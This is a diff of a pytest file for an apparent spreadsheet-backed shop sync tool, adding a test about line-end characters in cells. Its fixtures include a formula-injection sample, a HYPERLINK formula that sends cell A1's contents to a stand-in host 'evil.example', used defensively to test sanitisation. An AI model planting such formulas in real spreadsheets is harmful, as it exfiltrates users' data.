@@ -16,7 +16,7 @@ import pypdfium2
 import pytest
 
 from .proofs import assert_whole
-from .shop import Shop, asks, make_shop
+from .shop import Shop, asks, make_shop, place
 
 TEXTS = {
     "a formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -121,3 +121,15 @@ def test_a_terminal_gets_no_control_signs(tmp_path: Path) -> None:
     assert "2J" in done.out
     assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", done.out + machine.out)
     assert "\u009b2J" in machine.json["findings"][0]["message"]
+
+
+@pytest.mark.parametrize("text", ["a\r\nb", "a_x000D_b", "a_x000B_b", "a\nb"])
+@pytest.mark.parametrize("column", ["order_no", "sku", "order_line", "rma_number", "status"])
+def test_a_line_end_in_a_cell_does_not_keep_passes_busy(tmp_path: Path, column: str, text: str) -> None:
+    shop = make_shop(tmp_path / "shop", asks("1001"))
+    with shop.sheet() as sheet:
+        write_text(sheet.cell(2, place(sheet, column)), text)
+    first = shop.run("sync")
+    again = shop.run("sync")
+    assert ("engine-cell-edited" in again.out, first.code) == (False, 0)
+    assert_whole(shop)
